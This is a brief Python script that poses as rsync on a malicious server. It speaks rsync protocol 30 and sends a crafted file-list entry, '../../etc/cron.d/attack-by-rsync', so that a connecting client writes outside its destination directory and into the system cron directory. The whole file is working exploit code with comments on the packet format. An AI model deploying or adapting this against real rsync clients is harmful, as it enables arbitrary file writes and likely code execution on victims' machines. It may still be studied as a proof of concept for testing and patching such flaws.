#!/usr/bin/python3
"""Stands in the place of rsync on a hostile host: asked for files, it names one that lies outside of where they go."""
import os, struct, sys

if "--sender" not in sys.argv:
    os.execv("/usr/bin/rsync", ["rsync", *sys.argv[1:]])

def send(text):
    sys.stdout.buffer.write(text)
    sys.stdout.buffer.flush()

# The handshake of protocol 30: both versions; no flags; a seed. From then on what is sent goes in packets, of which 7 holds data.
send(struct.pack("<i", 30))
sys.stdin.buffer.read(4)
send(b"\0" + struct.pack("<i", 1))
# The list's first entry: owners as in the one before, and a name of so many bytes.
name = b"../../etc/cron.d/attack-by-rsync"
entry = b"\x18" + bytes([len(name)]) + name
send(struct.pack("<I", (7 << 24) | len(entry)) + entry)
sys.stdin.buffer.read()
